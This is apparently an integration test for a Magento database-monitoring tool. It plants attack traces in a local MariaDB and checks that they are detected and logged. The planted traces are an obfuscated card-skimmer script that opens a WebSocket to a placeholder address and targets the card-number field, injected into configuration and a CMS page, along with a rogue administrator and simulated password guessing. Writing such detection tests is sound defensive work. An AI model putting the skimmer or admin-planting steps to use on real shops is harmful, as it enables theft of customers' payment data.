#!/usr/bin/env python3
"""Rows of a real MariaDB: a skimmer and who wrote it, a planted administrator, and what dies by itself.

usage: rows.py MAGEWARDEN

Starts MariaDB with its audit plugin on a free port of 127.0.0.1, makes magewarden's account with the printed grants, and
watches with `up --source shop_rows`. Then writes a skimmer to configuration, a page and a layout, plants an
administrator, guesses a password and leaves what administrators did in the audit tables of Commerce and Mage-OS's add-on, and runs
Magento's own clean-up statements: what died must still be in the ledger. Counts what our account asked of the server, and what a shop
without those tables costs. While others lock tables, and while the server hangs, it waits for nobody. Everything started here is ended by its process id.
"""
import json
import pathlib
import re
import signal
import subprocess
import sys
import time

from shared import client, database, free_port, grant, magento, metric, need, observations, page, password_file, stage, verified, wait_for

SECRET = "not-a-real-secret-5d1f"
# A published test number.
CARD = "4111 1111 1111 1111"
SCHEMA = pathlib.Path(__file__).resolve().parent.parent / "shop" / "schema.sql"

# What is there when the watch begins; secrets stand in columns that must never be read.
ROWS = f"""
insert into mg_core_config_data (scope, scope_id, path, value) values ('default', 0, 'web/secure/base_url', 'https://shop.example.com/'),
  ('default', 0, 'payment/gateway/private_key', '{SECRET}');
insert into mg_admin_user (username, password, email, is_active) values ('owner', '{SECRET}', 'owner@example.com', 1);
insert into mg_admin_user_session (user_id, status, ip, updated_at) values (1, 1, '192.0.2.77', now() - interval 2 day);
insert into mg_password_reset_request_event (request_type, account_reference, created_at, ip) values (1, 'owner@example.com', now() - interval 2 day, '192.0.2.78');
insert into mg_oauth_token (admin_id, type, token, secret, user_type, created_at) values (1, 'access', '{SECRET[:20]}', '{SECRET}', 2, now() - interval 2 day);
insert into mg_cron_schedule (job_code, status, created_at, finished_at) select concat('job_', seq), 'success', now() - interval 3 hour, now() - interval 2 hour from seq_1_to_300;
insert into mg_quote_payment (quote_id, method, cc_number_enc) values (41, 'checkmo', '{SECRET}');
insert into mg_quote (store_id, customer_email, reserved_order_id, updated_at) values (3, '{SECRET}@example.com', '000000041', now() - interval 40 day);
insert into mg_sales_order (state, status, store_id, grand_total, increment_id, customer_email, remote_ip, quote_id) values ('new', 'pending', 3, 40, '000000041', '{SECRET}@example.com', '198.51.100.77', 1);
insert into mg_sales_order_payment (parent_id, method, cc_number_enc, cc_last_4, additional_information) values (1, 'checkmo', '{SECRET}', '1111', '{SECRET}');
insert into mg_sales_order_status_history (parent_id, status, comment, entity_name) values (1, 'pending', '{SECRET}', 'order');
insert into mg_sales_order_status_change_history (order_id, status) values (1, 'pending');
insert into mg_admin_user_expiration values (1, '2030-01-01');
insert into mg_oauth_token_request_log (user_name, user_type, failures_count, lock_expires_at) values ('{SECRET}@example.com', 3, 4, now());
insert into mg_magento_bulk (uuid, user_id, user_type, description, operation_count, start_time) values ('b-1', 1, 2, 'Topic async.orders.post', 1, now() - interval 90 day);
insert into mg_magento_operation (bulk_uuid, topic_name, serialized_data, result_serialized_data, status, result_message) values ('b-1', 'async.orders.post', '{SECRET}', '{SECRET}', 1, '{SECRET}');
insert into mg_adminnotification_inbox (severity, title, description, url) values (4, 'Your export file is ready', '{SECRET}', '{SECRET}');
insert into mg_patch_list (patch_name) values ('Vendor\\\\Patch');
insert into mg_import_history (user_id, imported_file, execution_time, summary) values (1, 'customers.csv', '00:00:03', 'Created: 3');
insert into mg_magento_logging_event (ip, event_code, time, action, info, status, user, user_id, fullaction, error_message)
  values (3221225985, 'admin_login', now() - interval 90 day, 'login', 'card {CARD}', 'failure', 'owner', 1, 'adminhtml_auth_login', '{SECRET}');
insert into mg_magento_logging_event_changes (source_name, event_id, source_id, original_data, result_data) values ('Magento\\\\User\\\\Model\\\\User', 1, 1, '{SECRET}', '{SECRET}');
insert into mg_admin_login_log (username, name, remote_ip, type, status, remarks, created_at) values ('owner', '{SECRET}', '192.0.2.78', 'Login', 1, '{SECRET}', now() - interval 90 day);
"""

# Tables that only some shops have, and what is in them at first.
COMMERCE = ("magento_logging_event", "magento_logging_event_changes")
MAGE_OS = ("admin_login_log", "admin_activity", "admin_activity_log", "admin_activity_detail")
COPIED = ("quote", "sales_order", "sales_order_payment", "sales_order_status_history", "sales_order_status_change_history", "admin_user_expiration", "oauth_token_request_log",
          "magento_bulk", "magento_operation", "adminnotification_inbox", "patch_list", "import_history", *COMMERCE, "admin_login_log")

# Columns that no statement may name.
NEVER = ("cc_number_enc", "cc_cid_enc", "cc_last_4", "additional_information", "`password`", "`token`", "`secret`", "rp_token`", "session_id", "customer_email", "remote_addr", "serialized",
         "original_data", "result_data", "old_value", "new_value", "`comment`", "remarks", "error_message", "result_message", "item_name")

# What Magento's own jobs delete (`magento.md` §3.8).
CLEAN_UP = """
delete from mg_admin_user_session where updated_at < now() - interval 1 day;
delete from mg_password_reset_request_event where created_at < now() - interval 1 day;
delete from mg_oauth_token where created_at < now() - interval 4 hour and user_type = 2;
delete from mg_cron_schedule where status = 'success' and finished_at < now() - interval 1 hour;
delete from mg_quote_payment where quote_id = 41;
delete from mg_quote where updated_at < now() - interval 30 day;
delete from mg_magento_bulk where start_time < now() - interval 60 day;
delete from mg_magento_operation where bulk_uuid = 'b-1';
delete from mg_oauth_token_request_log where lock_expires_at <= now();
delete from mg_magento_logging_event_changes where event_id = 1;
delete from mg_magento_logging_event where time < now() - interval 60 day;
delete from mg_admin_login_log where created_at < now() - interval 60 day;
"""
DELETED = ("quote", "magento_bulk", "magento_operation", "oauth_token_request_log", "magento_logging_event", "magento_logging_event_changes", "admin_login_log")

# What an attacker leaves who guessed an administrator's password, as Mage-OS's add-on writes it – and as Commerce does.
ACTS = """
insert into mg_admin_login_log (username, remote_ip, type, status, remarks) select 'alice', '198.51.100.7', 'Login', 0, '' from seq_1_to_12;
insert into mg_admin_login_log (username, remote_ip, type, status) values ('alice', '198.51.100.7', 'Login', 1);
insert into mg_admin_activity (username, name, admin_id, action_type, remote_ip, module, fullaction, item_name)
  values ('alice', 'Alice', 2, 'edit', '198.51.100.7', 'system_configuration', 'adminhtml_system_config_save', 'x');
insert into mg_admin_activity_log (activity_id, field_name, old_value, new_value) values (last_insert_id(), 'design/head/includes', '', '{secret}');
insert into mg_admin_activity (username, name, admin_id, action_type, remote_ip, module, fullaction)
  values ('alice', 'Alice', 2, 'edit', '198.51.100.7', 'cms_pages', 'cms_page_save');
insert into mg_admin_activity_detail (activity_id, model_class, item_id) values (last_insert_id(), 'Magento\\\\Cms\\\\Model\\\\Page', 1);
insert into mg_magento_logging_event (ip, event_code, time, action, status, user, user_id, fullaction)
  values (3325256711, 'encryption_key', now(), 'save', 'success', 'carol', 3, 'adminhtml_crypt_key_save');
insert into mg_magento_logging_event_changes (source_name, event_id, source_id) values ('Magento\\\\Widget\\\\Model\\\\Widget\\\\Instance', last_insert_id(), 5);
insert into mg_magento_login_as_customer_log (time, user_id, user_name, customer_id, customer_email) select now(), 3, 'carol', seq, '{secret}' from seq_1_to_11;
"""


def held(folder, sql, rows, show, works):
    """Somebody locks a table, and somebody's ALTER TABLE waits for another: nobody is waited for, the other tables go on, and it is said."""
    others = []

    def other(text):
        others.append(subprocess.Popen(client(folder) + ["-N", "-n", "shop"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True))
        others[-1].stdin.write(text + "\n")
        others[-1].stdin.flush()
        return others[-1]

    waiting = "select count(*) from information_schema.processlist where {}state like 'Waiting for%'"
    watch = lambda who: int(sql(waiting.format(who)))
    try:
        other("lock tables mg_cms_page write; update mg_cms_page set content = '<h1>Held</h1>' where page_id = 1;")
        other("begin; select count(*) from mg_layout_update;")
        time.sleep(1)
        other("alter table mg_layout_update add column later int;")
        wait_for("an ALTER TABLE that waits", 20, lambda: watch("") == 1)
        # Every twentieth of a second, by a connection of its own.
        sampler = other((waiting.format("user = 'magewarden' and ") + "; do sleep(0.05);") * 4000)
        sql("insert into shop.mg_core_config_data (scope, scope_id, path, value) values ('default', 0, 'web/unsecure/base_url', 'http://shop.example.com/')")
        wait_for("that a table is locked, on the page", 90, lambda: "is locked by somebody" in show("/sources"))
        wait_for("what changed in another table", 90, lambda: any(row.get("config.path") == "web/unsecure/base_url" for row in rows("core_config_data", "created")))
        wait_for("the trouble, when it lasts", 90, lambda: works() == 0)
        need("Held" not in json.dumps(rows("cms_page", "modified")), "a table that is locked isn't read")
        need(watch("") == 1, "the ALTER TABLE still waits")
        sampler.kill()
        samples = sampler.stdout.read().split()
        need(len(samples) > 100 and set(samples) == {"0"}, f"our account waits for nobody's lock: {len(samples)} samples", set(samples))
    finally:
        for one in others:
            one.kill()
            one.wait()
    wait_for("what was written behind the lock", 30, lambda: "Held" in json.dumps(rows("cms_page", "modified")))
    wait_for("the end of the trouble with locks", 60, lambda: works() == 1)
    need("is locked" not in show("/sources"), "it is said that the tables are free")


def main():
    magewarden = pathlib.Path(sys.argv[1]).resolve()
    with stage("rows") as (started, folder):
        server, log = database(folder, free_port())
        started.append(server)
        sql = lambda text: subprocess.run(client(folder) + ["-N"], check=True, input=text, text=True, capture_output=True).stdout
        sql("create database shop; use shop;" + SCHEMA.read_text() + ROWS)
        # A server whose clock isn't UTC, as Magento's times are.
        sql("set global time_zone = '+05:00'")
        root = magento(folder, SECRET)
        word = password_file(folder, "its-own-password")
        asked = ["--magento", str(root), "--database-user", "magewarden", "--database-password-file", str(word), "--source", "shop_rows"]
        printed = subprocess.run([str(magewarden), "up", *asked, "--print-grants"], check=True, capture_output=True, text=True).stdout
        for column in NEVER:
            need(column not in printed, f"the grants name {column}", printed)
        grant(sql, printed, "its-own-password")
        console, data = free_port(), folder / "data"
        err = open(folder / "err", "w+")

        def start():
            up = subprocess.Popen([str(magewarden), "up", *asked, "--log", str(log), "--data", str(data), "--port", str(console)], stderr=err)
            started.append(up)
            return up

        entries = lambda: observations(magewarden, data, "shop_rows:shop")

        def rows(table, change=None):
            return [row for row in entries() if row.get("row.table") == table and change in (None, row.get("change"))]

        show = lambda path="/incidents": page(console, path)
        works = lambda: metric(console, "works", "shop_rows:shop")
        up = start()
        wait_for("the console", 30, lambda: "<main" in show())
        wait_for("every table seen", 90, lambda: len(rows("quote_payment")) == 1 and len(rows("cron_schedule")) == 300 and all(rows(table) for table in COPIED))
        need([row["shop.store"] for row in rows("sales_order") + rows("quote")] == ["us", "us"], "the store of order and cart", rows("sales_order"))
        need(rows("magento_logging_event")[0]["peer-ip"] == "192.0.2.1" and "info=card 4111 1111 1111 1111" not in rows("magento_logging_event")[0]["row.values"], "a packed address, a masked number", rows("magento_logging_event"))
        change = rows("magento_logging_event_changes")[0]
        need((change["admin.name"], change["admin.target"], change["peer-ip"]) == ("owner", "admin_user:1", "192.0.2.1"), "a change has its event's administrator", change)
        need(rows("import_history")[0]["admin.name"] == rows("admin_user_session")[0]["admin.name"] == "owner", "a number has its name", rows("import_history"))
        age = time.time() - time.mktime(time.strptime(change["time"][:19], "%Y-%m-%dT%H:%M:%S")) + time.timezone
        need(abs(age - 90 * 86400) < 7200, "an act has its own time", change)
        # What Magento's own jobs delete is in the ledger.
        sql("use shop;" + CLEAN_UP)
        for table, count in (("admin_user_session", 1), ("password_reset_request_event", 1), ("oauth_token", 1), ("cron_schedule", 300), ("quote_payment", 1)):
            need(int(sql(f"select count(*) from shop.mg_{table}")) == 0, f"{table} was cleaned")
            need(len(rows(table)) == count, f"{table}: what died is in the ledger", rows(table))
        for table in DELETED:
            need(int(sql(f"select count(*) from shop.mg_{table}")) == 0 and len(rows(table)) == 1, f"{table}: what was deleted is in the ledger", rows(table))
        need(any("ip=192.0.2.77" in value for value in rows("admin_user_session")[0]["row.values"]), "the session's address is kept")
        # Harm, each at its store.
        skimmer = "<script>var s=new WebSocket(atob(\\'d3NzOi8vMTk4LjUxLjEwMC45\\'));document.querySelector(\\'[name=cc_number]\\')</script>"
        sql(f"""use shop;
            insert into mg_core_config_data (scope, scope_id, path, value) values ('websites', 2, 'design/head/includes', '{skimmer}');
            update mg_cms_page set content = '<h1>Welcome</h1>{skimmer}' where page_id = 1;
            insert into mg_layout_update (handle, xml) values ('checkout_index_index', '<referenceBlock name="h"><action method="x"><argument>system</argument></action></referenceBlock>');
            insert into mg_admin_user (username, is_active) values ('support2', 1);
            insert into mg_quote_payment (quote_id, method) values (42, 'checkmo');""" + ACTS.format(secret=SECRET))
        wait_for("what was planted", 90, lambda: all(rows(table, change) for table, change in (
            ("core_config_data", "created"), ("cms_page", "modified"), ("layout_update", "created"), ("admin_user", "created"))))
        # An incident opens: what is looked at each ten minutes is looked at now, before it dies.
        wait_for("a quote's payment, with the incident", 90, lambda: rows("quote_payment", "created"))
        need(rows("core_config_data", "created")[0].get("shop.website") == "second", "the skimmer's website is told", rows("core_config_data", "created"))
        def told():
            return " ".join(show(link) for link in re.findall(r'href="(/incidents/[0-9a-f]+)"', show()))

        # One incident: the account that wrote it stands in the audit log, what and where in the rows.
        wanted = ("Skimmer", "calls code", "design/head/includes", "cms_page:1", "layout_update:1", "admin_user:2", "root", "website second")
        wait_for("what was planted, by whom and where, on the pages", 30, lambda: all(word in told() for word in wanted))
        # The action log names who wrote it, and from where; what else it tells is found.
        def incident(*words):
            return any(all(word in text for word in words) for text in (show(link) for link in re.findall(r'href="(/incidents/[0-9a-f]+)"', show())))

        wait_for("who wrote the skimmer", 90, lambda: incident("Skimmer", "design/head/includes", "administrator alice", "198.51.100.7", "by the action log"))
        for title in ("passwords guessed at, by the action log", "password guessed, by the action log", "Encryption key changed", "logged in as many customers"):
            wait_for(title, 90, lambda: incident(title))
        need(incident("Encryption key changed", "carol", "198.51.100.7"), "the administrator of Commerce's log")
        # More carts between two looks than are looked at again: none is missed.
        sql("use shop; insert into mg_cron_schedule (job_code, status) select concat('late_', seq), 'success' from seq_1_to_6000;"
            "insert into mg_core_config_data (scope, scope_id, path, value) values ('default', 0, 'admin/magento_logging/actions', '0')")
        wait_for("the action log switched off", 120, lambda: incident("action log switched off"))
        wait_for("what came while many came", 90, lambda: len(rows("cron_schedule", "created")) == 6000)
        # Nothing that must not be read was read.
        sealed = json.dumps(entries())
        need(SECRET not in sealed and SECRET[:20] not in sealed and CARD not in sealed, "a secret was read")
        # A start tells only what is new.
        before = len(entries())
        up.send_signal(signal.SIGKILL)
        up.wait(20)
        up = start()
        wait_for("the console", 30, lambda: "<main" in show())
        time.sleep(12)
        need(len(entries()) == before, f"a start tells nothing twice: {before} and {len(entries())}")
        # What our account asked of the server, and how fast.
        audit = log.read_text(errors="replace")
        own = [line for line in audit.splitlines() if ",magewarden," in line and ",QUERY," in line]
        busiest = max((sum(1 for line in own if line.startswith(second)) for second in {line[:17] for line in own}), default=0)
        need(0 < busiest <= 15, f"at most five statements a second, at the log-in a few more: {busiest}")
        need(not any(column in line for line in own for column in NEVER), "a statement names what must not be read")
        # A shop without those tables isn't asked for them.
        up.send_signal(signal.SIGTERM)
        up.wait(30)
        sql("use shop;" + "".join(f"drop table mg_{table};" for table in COMMERCE + MAGE_OS))
        asked_before = len(audit)
        up = start()
        wait_for("the console", 30, lambda: "<main" in show())
        time.sleep(15)
        own = [line for line in log.read_text(errors="replace")[asked_before:].splitlines() if ",magewarden," in line and ",QUERY," in line]
        need(any("mg_core_config_data" in line for line in own) and not any(table in line for line in own for table in COMMERCE + MAGE_OS), "tables that aren't there cost nothing", own[-5:])
        held(folder, sql, rows, show, works)
        # A database that hangs holds up nothing: it is said, and what changed meanwhile is told once it goes on.
        server.send_signal(signal.SIGSTOP)
        try:
            wait_for("the trouble with a server that hangs", 60, lambda: works() == 0)
            need("<main" in show(), "the console answers while the database hangs")
        finally:
            server.send_signal(signal.SIGCONT)
        wait_for("the end of the trouble", 120, lambda: works() == 1)
        # One that goes is said, too.
        server.terminate()
        server.wait(30)
        wait_for("the trouble in the metrics", 90, lambda: works() == 0)
        wait_for("the trouble on the page", 30, lambda: "failing" in show("/sources"))
        wait_for("the trouble in an incident", 60, lambda: incident("evidence doesn&#39;t work"))
        up.send_signal(signal.SIGTERM)
        up.wait(30)
        health = subprocess.run([str(magewarden), "entries", str(data / "ledger"), "--source", "magewarden:health", "--format", "ndjson"], capture_output=True, text=True).stdout
        need('failing' in health and 'shop_rows:shop' in health, "the trouble is sealed", health)
        verified(magewarden, data)
        print(f"1 passed, 0 failed ({before} rows sealed, at most {busiest} statements a second)")


if __name__ == "__main__":
    main()
